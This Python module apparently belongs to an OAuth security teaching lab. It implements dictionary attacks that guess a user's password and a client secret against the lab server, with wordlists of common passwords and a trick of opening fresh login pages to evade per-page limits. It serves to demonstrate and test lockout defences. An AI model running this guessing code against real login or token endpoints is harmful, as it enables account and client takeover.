"""Attack 7: guessing a user's password and a client's secret from a dictionary.

RFC 6749 10.10: "The authorization server MUST prevent attackers from guessing
access tokens, authorization codes, refresh tokens, resource owner passwords,
and client credentials." Two defences work together: secrets nobody can guess
(this server makes 28-character ones; RFC 9700 2.5 prefers keys to secrets),
and a lockout that slows guessing down: after 10 wrong passwords for one user
from one address, or 20 wrong secrets for one client from one address, or 200
failures of any kind from one address, in 15 minutes, every attempt from there is
refused unchecked, with a message that says so. The owner, signing in from their
own address, is not locked out by a guesser elsewhere. Lab switch: `no_throttle`.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from ..client import Page, client_authenticated_request, json_object
from ..server.switches import SWITCHES
from ._steps import authorization_url, params_of
from .registry import attack_on
from .result import AttackResult, Lesson, Unsupported
from .scenario import TargetLike, as_target

# A small dictionary of passwords people pick; the lab's victim chose one of them.
COMMON_PASSWORDS = (
    "123456", "password", "123456789", "12345678", "qwerty", "12345", "111111", "abc123",
    "password1", "iloveyou", "admin", "welcome", "monkey", "dragon", "sunshine", "letmein",
    "football", "princess", "qwerty123", "baseball", "master", "shadow", "superman",
    "trustno1",
)  # fmt: skip
# Secrets developers type when a portal lets them choose one.
COMMON_SECRETS = (
    "client_secret", "changeme", "password", "123456", "admin", "test", "default", "oauth",
    "oauth2", "demo", "sample", "12345678", "qwerty", "letmein", "welcome", "secret123",
    "s3cr3t", "P@ssw0rd", "apikey", "api_secret", "clientsecret", "mysecret", "topsecret",
    "supersecret", "secret", "hunter2",
)  # fmt: skip
SECTION = SWITCHES["no_throttle"].source
_LOCKED = re.compile(r"too many|locked|try again (later|in)", re.IGNORECASE)


@dataclass(frozen=True)
class Guessing:
    """A dictionary attack in words: its lesson, and how each way a run can end is told.

    In `found_what` and `locked_what`, {n} is the number of guesses, {wrong} the
    wrong ones before the lockout, {said} the server's answer and {who} the account.
    """

    lesson: Lesson
    found: str  # the last step when a guess works: "guess 15 opens the account: 'sunshine'"
    found_as: str  # the name of that guess in the evidence
    found_what: str
    locked_what: str

    def result(
        self,
        steps: list[str],
        tried: int,
        found: str | None,
        lockout: tuple[str, str] | None,  # what the server said: in the story, in full
        who: str = "",
        last: str = "",  # the server's answer to the last guess
    ) -> AttackResult:
        evidence: dict[str, object] = {"guesses": tried}
        if found is not None:
            steps.append(f"guess {tried} {self.found}: {found!r}")
            evidence[self.found_as] = found
            what = self.found_what.format(n=tried, who=who)
        elif lockout is not None:
            said, in_full = lockout
            steps.append(f"guess {tried} is refused unchecked: {said}")
            evidence["server said"] = in_full
            what = self.locked_what.format(wrong=tried - 1, said=said)
        else:
            steps.append("no guess worked")
            what = f"None of the {tried} guesses worked, and the server never locked out."
        evidence["locked out"] = lockout is not None
        evidence["last answer"] = last
        reason = f"{what.partition('. ')[0].rstrip('.')} (the last answer: {last})."
        return self.lesson.result(found is not None, what, steps, evidence, reason=reason)


PASSWORDS = Guessing(
    Lesson(
        "Password guessing",
        SECTION,
        "Lockout per user and address, and per address, after repeated failures, with a clear "
        "message.",
    ),
    found="opens the account",
    found_as="password found",
    found_what="The password was found after {n} guesses: nothing slowed the attacker down, "
    "and {who}'s account is hers.",
    locked_what="The server locked the account after {wrong} wrong passwords and refused the "
    "rest unchecked: {said}",
)
SECRETS = Guessing(
    Lesson(
        "Client secret guessing",
        SECTION,
        "Lockout per client and address, and per address, after repeated failures; long "
        "random secrets.",
    ),
    found="gets past client authentication",
    found_as="secret found",
    found_what="The client secret was found after {n} guesses; the attacker can now redeem "
    "codes and refresh tokens as this client.",
    locked_what="The server stopped checking after {wrong} wrong secrets: {said} A lockout "
    "only slows guessing down; the real fix is a secret nobody can guess.",
)


def _locked_out(page: Page) -> bool:
    return page.status == 429 or bool(_LOCKED.search(page.message))


@attack_on("no_throttle")
def guess_password(
    target: TargetLike,
    *,
    username: str | None = None,
    wordlist: Sequence[str] = COMMON_PASSWORDS,
    per_page: int = 4,
) -> AttackResult:
    """Try each password of `wordlist` on the login page, a few per page.

    A new login page is opened every `per_page` guesses, so a limit per page
    (this server closes a page after 5 wrong passwords) does not stop the
    attacker: only a lockout per user and address, or per address, does.
    """
    t = as_target(target)
    username = username or t.victim.username
    app = t.register()
    tried: list[str] = []
    found: str | None = None
    lockout: tuple[str, str] | None = None  # the server's answer: in short, in full
    with t.browser() as browser:

        def fresh_login_page() -> Page:
            page = browser.open(authorization_url(t, app))
            if page.login_form is None:
                raise Unsupported(f"No login page to guess on: {page.describe()}")
            return page

        page: Page | None = None
        for guess in wordlist:
            if page is None or page.login_form is None or len(tried) % per_page == 0:
                page = fresh_login_page()
            page = browser.login(username, guess)
            if _locked_out(page):
                # perhaps only this page was closed: the same guess on a fresh page
                fresh_login_page()
                page = browser.login(username, guess)
            tried.append(guess)
            if page.kind == "consent" or params_of(page.location).get("code"):
                found = guess
                break
            if _locked_out(page):
                lockout = (page.message, f"{page.status} {page.message}")
                break
    steps = [
        f"{t.attacker.username} tries {len(tried)} passwords from a dictionary for "
        f"{username!r}, opening a new login page every {per_page} guesses"
    ]
    last = page.describe() if page is not None else "no guess was sent"
    return PASSWORDS.result(steps, len(tried), found, lockout, who=username, last=last)


@attack_on("no_throttle")
def guess_client_secret(
    target: TargetLike, *, client_id: str | None = None, wordlist: Sequence[str] = COMMON_SECRETS
) -> AttackResult:
    """Try each secret of `wordlist` for `client_id` at the token endpoint.

    A wrong secret is 401 invalid_client (RFC 6749 5.2); the right one with a
    made-up code gets past client authentication to invalid_grant.
    """
    t = as_target(target)
    client_id = client_id or t.weak_client_id
    if client_id is None:
        raise Unsupported("No client to guess the secret of.")
    token_endpoint = t.endpoints().token_endpoint
    form = [
        ("grant_type", "authorization_code"),
        ("code", "made-up-code"),
        ("redirect_uri", t.redirect_uri),
    ]
    tried = 0
    found: str | None = None
    lockout: tuple[str, str] | None = None
    last = "no guess was sent"
    with t.http() as http:
        for guess in wordlist:
            tried += 1
            request = client_authenticated_request(token_endpoint, (client_id, guess), form)
            response = http.send(request)
            body = json_object(response) or {}
            description = str(body.get("error_description", ""))
            last = f"{response.status_code} {body.get('error', '')}: {description}".strip(": ")
            if response.status_code == 429 or "retry-after" in response.headers:
                lockout = (last, last)
                break
            # RFC 6749 5.2: a failed client authentication is invalid_client, 401 or 400
            if response.status_code != 401 and body.get("error") != "invalid_client":
                found = guess
                break
    steps = [
        f"{t.attacker.username} sends token requests for client {client_id!r}, one "
        "secret from a dictionary each"
    ]
    return SECRETS.result(steps, tried, found, lockout, last=last)
